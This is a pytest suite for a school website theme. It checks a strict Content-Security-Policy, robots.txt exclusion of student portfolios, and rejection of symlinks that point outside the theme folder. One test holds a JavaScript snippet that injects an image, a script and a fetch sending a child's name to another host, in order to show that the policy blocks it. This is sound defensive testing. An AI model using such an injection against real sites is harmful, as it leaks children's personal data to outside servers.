"""Fail closed, side doors too: every web page allows only the site itself (a
Content-Security-Policy that Chromium enforces), robots.txt keeps crawlers out of portfolios
under the site's own path, and the build reads nothing of the theme from outside its folder."""

import os
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

import tasks
from homeroom_sitemap import robots_txt
from homeroom_tasks.runs import build_problems
from tests.sites import ROOT, TODAY, html_files, read_tree, small_school, web_pages
from tests.tools import RECORD_VIOLATIONS, serve, watch_requests

# 'wasm-unsafe-eval': Pagefind's own WebAssembly, from the site; form-action 'self': the
# search boxes submit to the search page; worker-src 'self': the offline reader (sw.js).
POLICY = (
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; "
    "img-src 'self' data: blob:; media-src 'self' data: blob:; connect-src 'self'; "
    "font-src 'self'; manifest-src 'self'; worker-src 'self'; base-uri 'none'; "
    "form-action 'self'; object-src 'none'"
)
# Where each element of the page is, and a few styles only homeroom.css gives: equal with and
# without the policy means the policy blocked no style.
LAYOUT = """() => {
  const sheet = [...document.styleSheets]
    .find((s) => s.href && s.href.endsWith("/theme/css/homeroom.css"));
  const boxes = [...document.querySelectorAll("body *")].map((el) => {
    const r = el.getBoundingClientRect();
    return [el.tagName, ...[r.x, r.y, r.width, r.height].map(Math.round)];
  });
  const style = (selector, property) => {
    const el = document.querySelector(selector);
    return el ? getComputedStyle(el)[property] : null;
  };
  return {
    rules: sheet ? sheet.cssRules.length : 0,
    skip: style("a.skip", "position"),
    body: style("body", "maxInlineSize"),
    header: style(".site-header", "display"),
    boxes,
  };
}"""


def settled_layout(page) -> dict:
    """The layout once scripts are done with it (a family page shows its form when its
    script has run): the same twice in a row, 100 ms apart."""
    layout = page.evaluate(LAYOUT)
    for _ in range(20):
        page.wait_for_timeout(100)
        again = page.evaluate(LAYOUT)
        if again == layout:
            return layout
        layout = again
    raise AssertionError(f"the layout of {page.url} never settles")


class Head(HTMLParser):
    """The elements of <head>, in order, with their attributes."""

    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []
        self.done = False

    def handle_starttag(self, tag, attrs):
        if tag == "body":
            self.done = True
        if not self.done and tag not in ("html", "head"):
            self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag == "head":
            self.done = True


def head_of(path: Path) -> list[tuple[str, dict]]:
    parser = Head()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser.elements


def policies(elements) -> list[str]:
    return [
        attrs.get("content")
        for tag, attrs in elements
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "content-security-policy"
    ]


@pytest.mark.slow
@pytest.mark.parametrize("fixture", ["demo_site", "published_demo"])
def test_every_web_page_has_the_policy_before_any_resource(fixture, request):
    output = request.getfixturevalue(fixture)
    pages = web_pages(output)
    assert len(pages) > 80
    assert any("portfolio" in page.parts for page in pages)
    assert any(page.name == "404.html" for page in pages)
    for page in pages:
        elements = head_of(page)
        assert policies(elements) == [POLICY], page
        # <meta charset> first (it must be in the first 1024 bytes), then the policy
        assert [tag for tag, _ in elements[:2]] == ["meta", "meta"], page
        assert elements[0][1] == {"charset": "utf-8"}, page
        assert policies(elements[1:2]) == [POLICY], page
        text = page.read_text(encoding="utf-8")
        # nothing on a page that the policy would block: no inline style or script
        assert "<style" not in text and " style=" not in text, page
        assert "<script>" not in text, page
    emails = [path for path in html_files(output) if path.name == "email.html"]
    assert emails, "the newsletters' email editions are built"
    for email in emails:  # made for mail clients, which ignore a policy: inline CSS
        assert policies(head_of(email)) == []


@pytest.fixture(scope="module")
def site(demo_site):
    with serve(demo_site) as base_url:
        yield base_url


@pytest.mark.browser
def test_chromium_loads_every_page_with_no_violation_and_nothing_from_elsewhere(
    browser, site, demo_site
):
    context = browser.new_context(viewport={"width": 800, "height": 900})
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    watch = watch_requests(page, site)
    violations = []
    paths = [p.relative_to(demo_site).as_posix() for p in web_pages(demo_site)]
    layouts = {}
    for path in paths:
        page.goto(f"{site}/{path}")
        page.wait_for_load_state("load")
        layout = settled_layout(page)
        violations += [(path, *v) for v in page.evaluate("window.__violations")]
        # every page is styled by homeroom.css, and nothing of it was refused
        assert layout["rules"] > 50, path
        assert (layout["skip"], layout["body"], layout["header"]) == (
            "absolute",
            "736px",
            "flex",
        ), path
        layouts[path] = layout
    assert violations == []
    assert watch.external == []
    assert watch.console_errors == []
    assert watch.page_errors == []
    context.close()

    # The same pages without the policy are laid out exactly alike: it blocked nothing.
    kinds = {}
    for path in paths:  # one page of each kind: homes, class, post, event, newsletter, ...
        key = (path.count("/"), path.split("/")[2] if path.count("/") > 2 else path)
        kinds.setdefault(key, path)
    assert len(kinds) >= 8
    free = browser.new_context(viewport={"width": 800, "height": 900}, bypass_csp=True)
    loose = free.new_page()
    for path in kinds.values():
        loose.goto(f"{site}/{path}")
        loose.wait_for_load_state("load")
        assert settled_layout(loose) == layouts[path], path
    free.close()


@pytest.mark.browser
def test_a_family_page_opens_under_the_policy(browser, site, demo_site):
    """WebCrypto, the decrypted page written in and its data: photos, all with no violation."""
    locked = sorted(
        path.parent.relative_to(demo_site).as_posix()
        for path in (demo_site / "portfolio").glob("*/index.html")
        if 'id="locked"' in path.read_text()
    )
    assert locked
    context = browser.new_context()
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    watch = watch_requests(page, site)
    opened = None
    for path in locked:  # the shell names no one: find Ana's page by her passphrase
        page.goto(f"{site}/{path}/")
        form = page.locator("form.unlock:visible")
        form.locator("input[type=password]").fill("demo-only maple river seven")
        form.locator("button[type=submit]").click()
        page.wait_for_selector("#unlocked h1, .unlock-error:visible", timeout=30000)
        if page.locator("#unlocked h1").count():
            opened = path
            break
    assert opened, "Ana's family page opens with her passphrase"
    photos = page.locator("#unlocked img")
    assert photos.count() >= 1
    for index in range(photos.count()):
        photo = photos.nth(index)
        assert photo.get_attribute("src").startswith("data:image/")
        assert photo.evaluate("img => img.decode().then(() => img.naturalWidth)") > 0
    assert page.evaluate("window.__violations") == []
    assert watch.external == [] and watch.console_errors == [] and watch.page_errors == []
    context.close()


INJECT = """([img, js, api]) => new Promise((resolve) => {
  const found = [];
  document.addEventListener("securitypolicyviolation", (e) => {
    found.push([e.effectiveDirective, e.blockedURI]);
    if (found.length === 3) resolve(found);
  });
  const image = document.createElement("img");
  image.src = img;
  document.body.append(image);
  const script = document.createElement("script");
  script.src = js;
  document.head.append(script);
  fetch(api, { method: "POST", body: "child's name" }).catch(() => {});
  setTimeout(() => resolve(found), 5000);
})"""


@pytest.mark.browser
@pytest.mark.parametrize("path", ["en/grade-3b/news/fraction-wall/", "portfolio/"])
def test_an_injected_image_script_or_fetch_to_another_host_is_never_requested(
    browser, site, demo_site, elsewhere, path
):
    other, seen = elsewhere
    urls = [f"{other}/p.gif?child=ana", f"{other}/x.js", f"{other}/collect"]
    if path == "portfolio/":
        path = next((demo_site / "portfolio").iterdir()).relative_to(demo_site).as_posix() + "/"
    # Without the policy (bypassed), the same injection reaches the other host: the attack is
    # real, and the other server can be reached from this page.
    free = browser.new_context(bypass_csp=True)
    loose = free.new_page()
    loose.goto(f"{site}/{path}")
    loose.evaluate(INJECT, urls)
    loose.wait_for_function("window.__stolen === true", timeout=5000)
    free.close()
    assert sorted(seen) == ["/collect", "/p.gif?child=ana", "/x.js"]
    seen.clear()

    context = browser.new_context()
    page = context.new_page()
    responses, failures = [], []
    page.on("response", lambda response: responses.append(response.url))
    page.on("requestfailed", lambda request: failures.append((request.url, request.failure)))
    page.goto(f"{site}/{path}")
    found = page.evaluate(INJECT, urls)
    page.wait_for_timeout(300)  # time for a request that should not happen
    directives = sorted(directive for directive, _ in found)
    assert directives == ["connect-src", "img-src", "script-src-elem"]
    assert all(blocked.startswith(other) for _, blocked in found), found
    assert page.evaluate("window.__stolen") is None
    assert seen == []
    # Chromium refuses them before they leave: no response, each failed as blocked by the policy
    assert [url for url in responses if url.startswith(other)] == []
    # (the fetch() is refused before it is even a request)
    assert sorted(failures) == [(urls[0], "csp"), (urls[1], "csp")]
    context.close()


def test_robots_txt_disallows_portfolios_under_the_sites_own_path():
    assert robots_txt("https://riverside.example/homeroom").splitlines() == [
        "User-agent: *",
        "Disallow: /homeroom/portfolio/",
        "",
        "Sitemap: https://riverside.example/homeroom/sitemap.xml",
    ]
    assert robots_txt("https://school.example").splitlines()[1] == "Disallow: /portfolio/"
    assert robots_txt("https://a.example/b/c").splitlines()[1] == "Disallow: /b/c/portfolio/"


# --- the theme stays inside the theme folder ----------------------------------------------------

MARKER = "OUTSIDE-THE-THEME-7f3a"


@pytest.fixture
def theme_and_outside(tmp_path):
    theme = tmp_path / "theme"
    shutil.copytree(ROOT / "themes" / "homeroom", theme, symlinks=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.js").write_text(f"// {MARKER}\n")
    (outside / "footer.html").write_text(f"<footer>{MARKER}</footer>\n")
    catalog = (theme / "translations/es/LC_MESSAGES/messages.po").read_text(encoding="utf-8")
    catalog = catalog.replace('"Saltar al contenido principal"', f'"{MARKER}"')
    (outside / "messages.po").write_text(catalog, encoding="utf-8")
    return theme, outside


def build_with(content: Path, output: Path, theme: Path) -> list[str]:
    settings = tasks.pelican_settings(
        tasks.DEV_SETTINGS,
        str(content),
        str(output),
        THEME=str(theme),
        HOMEROOM_TODAY=TODAY,
        CACHE_PATH=str(output.parent / "cache"),
    )
    return build_problems(settings)


def nothing_from_outside(output: Path) -> None:
    for path in output.rglob("*"):
        if path.is_file():
            assert MARKER.encode() not in path.read_bytes(), path


@pytest.mark.parametrize(
    "link, target",
    [
        ("static/js/x.js", "secret.js"),  # a file
        ("static/extra", "."),  # a folder
        ("templates/partials/footer.html", "footer.html"),  # a template
        ("static/favicon.ico", "secret.js"),  # the favicon, which homeroom_site copies
        ("translations/es/LC_MESSAGES/messages.po", "messages.po"),
    ],
)
def test_a_link_out_of_the_theme_is_an_error_and_nothing_is_copied(
    tmp_path, theme_and_outside, link, target
):
    theme, outside = theme_and_outside
    content = small_school(tmp_path / "content")
    path = theme / link
    if path.exists():
        path.unlink()
    path.symlink_to(outside / target)
    output = tmp_path / "output"
    problems = build_with(content, output, theme)
    expected = f"{path}: links to {outside / target}, outside the theme folder {theme.resolve()}"
    assert any(problem.startswith(expected) for problem in problems), problems
    nothing_from_outside(output)
    assert not (output / "theme/js/x.js").exists()
    assert not (output / "theme/extra").exists()
    if link == "static/favicon.ico":
        assert not (output / "favicon.ico").exists()
        assert not (output / "theme/favicon.ico").exists()


def test_a_link_inside_the_theme_is_fine(tmp_path, theme_and_outside):
    theme, _ = theme_and_outside
    content = small_school(tmp_path / "content")
    (theme / "static/js/again.js").symlink_to(theme / "static/js/portfolio.js")
    (theme / "static/more").symlink_to("css", target_is_directory=True)
    output = tmp_path / "output"
    assert build_with(content, output, theme) == []
    assert (output / "theme/js/again.js").read_bytes() == (
        ROOT / "themes/homeroom/static/js/portfolio.js"
    ).read_bytes()
    assert (output / "theme/more/homeroom.css").is_file()


def test_publish_and_check_fail_on_a_link_out_of_the_theme_and_keep_the_last_good_site(
    tmp_path, theme_and_outside, monkeypatch, capsys
):
    theme, outside = theme_and_outside
    content = small_school(tmp_path / "content")
    real = tasks.pelican_settings

    def with_theme(conf, content, output, **extra):
        return real(conf, content, output, THEME=str(theme), **extra)

    monkeypatch.setattr(tasks, "pelican_settings", with_theme)
    monkeypatch.setenv("SITEURL", "https://riverside.example/homeroom")
    output = tmp_path / "site"
    tasks.publish.body(None, content=str(content), output=str(output))
    before = read_tree(output)
    assert "theme/js/portfolio.js" in before
    (theme / "static/js/x.js").symlink_to(outside / "secret.js")
    with pytest.raises(tasks.Exit) as stopped:
        tasks.publish.body(None, content=str(content), output=str(output))
    assert stopped.value.code == 1
    assert read_tree(output) == before
    assert sorted(os.listdir(tmp_path)) == ["content", "outside", "site", "theme"]
    # `invoke check` names it too, as build and publish do
    with pytest.raises(tasks.Exit) as stopped:
        tasks.check.body(None, content=str(content))
    assert stopped.value.code == 1
    expected = f"{theme / 'static/js/x.js'}: links to {outside / 'secret.js'}, outside the theme"
    assert expected in capsys.readouterr().out


def test_the_policy_is_the_one_documented():
    from homeroom_site import CONTENT_SECURITY_POLICY

    assert CONTENT_SECURITY_POLICY == POLICY
    # The one 'unsafe' word allowed compiles WebAssembly (Pagefind's), never eval() of script.
    relaxed = POLICY.replace(" 'wasm-unsafe-eval'", "", 1)
    assert "unsafe" not in relaxed and "*" not in POLICY and "http" not in POLICY
